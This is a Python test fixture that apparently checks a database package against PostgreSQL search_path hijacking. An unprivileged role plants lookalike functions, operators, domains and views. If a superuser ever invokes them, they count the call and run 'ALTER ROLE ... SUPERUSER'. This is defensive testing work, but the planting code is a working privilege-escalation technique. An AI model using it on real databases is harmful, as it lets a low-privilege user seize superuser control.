"""Code of another role that fits our calls: functions, operators, types and relations named like PostgreSQL's own."""

from __future__ import annotations

import re
import uuid
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psycopg2

import whatspire_db
from whatspire_db.dsn.postgres import parse_postgres

# What a planted function does. A sequence keeps its value when the transaction is rolled back.
_TRAP = """
CREATE SEQUENCE {schema}.ran;
GRANT USAGE ON SEQUENCE {schema}.ran TO PUBLIC;
CREATE FUNCTION {schema}.trap(called pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
    RAISE LOG 'planted code ran: %', called;
    PERFORM pg_catalog.nextval('{schema}.ran');
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
        EXECUTE 'ALTER ROLE {role} SUPERUSER';
    END IF;
    RETURN true;
END $trap$;
"""

# Every signature of the named functions, and again with other types of strings and numbers: an exact fit wins over
# pg_catalog's own. Aggregates without arguments need a state.
_FUNCTIONS = """
DO $do$
DECLARE f record; arguments text; swap text[];
BEGIN
    FOR f IN
        SELECT DISTINCT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, p.prokind, p.pronargs,
            format_type(p.prorettype, NULL) AS returns, p.proretset
        FROM pg_proc AS p
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (%(words)s)
    LOOP
        IF f.prokind = 'a' AND f.pronargs = 0 THEN
            EXECUTE format('CREATE OR REPLACE FUNCTION {schema}.state(n bigint) RETURNS bigint LANGUAGE plpgsql AS '
                '$f$BEGIN PERFORM {schema}.trap(%%L); RETURN n + 1; END$f$', f.proname);
            EXECUTE format('CREATE AGGREGATE {schema}.%%I(*) (SFUNC = {schema}.state, STYPE = bigint, INITCOND = 0)',
                f.proname);
            CONTINUE;
        END IF;
        FOREACH swap SLICE 1 IN ARRAY ARRAY[['text', 'text'], ['text', 'character varying'], ['text', 'name'],
            ['name', 'text'], ['bigint', 'integer'], ['integer', 'bigint'], ['bigint', 'oid'], ['"any"', 'anyelement']]
        LOOP
            arguments := regexp_replace(f.arguments, '\\m' || swap[1] || '\\M', swap[2], 'g');
            arguments := regexp_replace(arguments, '"any"', 'anyelement', 'g');
            BEGIN
                EXECUTE format('CREATE FUNCTION {schema}.%%I(%%s) RETURNS %%s %%s LANGUAGE plpgsql AS '
                    '$f$BEGIN PERFORM {schema}.trap(%%L); %%s; END$f$', f.proname, arguments,
                    CASE WHEN f.proretset THEN 'SETOF' ELSE '' END, f.returns, f.proname,
                    CASE WHEN f.proretset OR f.returns = 'void' THEN 'RETURN' ELSE 'RETURN NULL' END);
            EXCEPTION WHEN OTHERS THEN NULL; -- one that is there already, or of types that only C code takes
            END;
        END LOOP;
    END LOOP;
END $do$;
"""

_OPERATORS = """
DO $do$
DECLARE o record; number int := 0; name text;
BEGIN
    FOR o IN
        SELECT oprname, format_type(oprleft, NULL) AS l, format_type(oprright, NULL) AS r,
            format_type(oprresult, NULL) AS result
        FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b'
            AND oprname = ANY (string_to_array('= <> < > <= >= || + - * / # | << ~~ ~ -> #>>', ' '))
        UNION
        SELECT op, 'jsonb', 'jsonb', 'jsonb' FROM unnest(ARRAY['->', '#>>']) AS op
        UNION
        SELECT op, l, r, 'boolean' FROM unnest(ARRAY['=', '<>', '<', '>', '<=', '>=']) AS op,
            unnest(ARRAY['text', 'name', 'character varying', '"char"', 'character']) AS l,
            unnest(ARRAY['text', 'name', 'character varying', '"char"', 'character']) AS r
    LOOP
        number := number + 1;
        name := format('{schema}.planted_operator_%%s', number);
        BEGIN
            EXECUTE format('CREATE FUNCTION %%s(%%s, %%s) RETURNS %%s LANGUAGE plpgsql AS '
                '$f$BEGIN PERFORM {schema}.trap(%%L); RETURN NULL; END$f$', name, o.l, o.r, o.result, o.oprname);
            EXECUTE format('CREATE OPERATOR {schema}.%%s (LEFTARG = %%s, RIGHTARG = %%s, FUNCTION = %%s)',
                o.oprname, o.l, o.r, name);
        EXCEPTION WHEN OTHERS THEN NULL; -- of types that only C code takes
        END;
    END LOOP;
END $do$;
"""

_TYPES = """
DO $do$
DECLARE t record;
BEGIN
    FOR t IN
        SELECT typname FROM pg_type
        WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typelem = 0 AND typname = ANY (%(words)s)
    LOOP
        EXECUTE format('CREATE DOMAIN {schema}.%%I AS pg_catalog.%%I CHECK ({schema}.trap(%%L))',
            t.typname, t.typname, t.typname);
    END LOOP;
END $do$;
"""

_RELATIONS = """
DO $do$
DECLARE r record;
BEGIN
    FOR r IN
        SELECT relname, (SELECT string_agg(quote_ident(attname), ', ') FROM pg_attribute
                WHERE attrelid = c.oid AND attnum > 0 AND atttypid <> 'anyarray'::regtype) AS columns
        FROM pg_class AS c
        WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND relname = ANY (%(words)s)
            AND has_table_privilege(oid, 'SELECT')
    LOOP
        EXECUTE format('CREATE VIEW {schema}.%%I AS SELECT %%s FROM pg_catalog.%%I WHERE {schema}.trap(%%L)',
            r.relname, r.columns, r.relname, r.relname);
    END LOOP;
END $do$;
"""


def words() -> list[str]:
    """Return every word of the package's source; those that PostgreSQL's catalogs know are planted."""
    files = Path(whatspire_db.__file__).parent.rglob("*.py")
    return sorted({word for file in files for word in re.findall(r"[a-z]\w*", file.read_text())})


@dataclass(frozen=True)
class Planted:
    """What was planted in a schema by a role that owns nothing else."""

    dsn: str
    schema: str
    role: str

    def runs(self) -> int:
        """Return how often planted code has run."""
        return int(ask(self.dsn, f"SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM {self.schema}.ran"))

    def is_superuser(self) -> bool:
        """Tell whether the role that planted has become a superuser."""
        return bool(ask(self.dsn, f"SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = '{self.role}'"))

    def is_harmless(self) -> bool:
        """Tell whether nothing planted has run."""
        return self.runs() == 0 and not self.is_superuser()


def ask(dsn: str, sql: str) -> Any:
    """Return the first value of a query that nothing planted can change."""
    with closing(_connection(dsn)) as connection, connection.cursor() as cursor:
        cursor.execute(sql)
        return cursor.fetchone()[0]


def _connection(dsn: str) -> Any:
    connection = psycopg2.connect(**{**parse_postgres(dsn).arguments, "options": "-c search_path=pg_catalog"})
    connection.autocommit = True
    return connection


@contextmanager
def planted(dsn: str, schema: str = "public") -> Iterator[Planted]:
    """Plant in a schema of a database, which is made where it is missing, as a new role without other rights.

    :param dsn: a superuser's.
    """
    here = Planted(dsn, schema, f"mallory_{uuid.uuid4().hex[:8]}")
    with closing(_connection(dsn)) as connection, connection.cursor() as cursor:
        cursor.execute(f"CREATE ROLE {here.role} LOGIN")
        try:
            cursor.execute(f"CREATE SCHEMA IF NOT EXISTS {schema}; GRANT ALL ON SCHEMA {schema} TO {here.role}, PUBLIC")
            cursor.execute(f"SET SESSION AUTHORIZATION {here.role}")
            for statement in (_TRAP, _FUNCTIONS, _OPERATORS, _TYPES, _RELATIONS):
                text = statement.replace("{schema}", schema).replace("{role}", here.role)
                cursor.execute(text, {"words": words()}) if "%(" in text else cursor.execute(text.replace("%%", "%"))
            cursor.execute("RESET SESSION AUTHORIZATION")
            yield here
        finally:
            cursor.execute("RESET SESSION AUTHORIZATION")
            cursor.execute(f"DROP OWNED BY {here.role} CASCADE; DROP ROLE {here.role}")
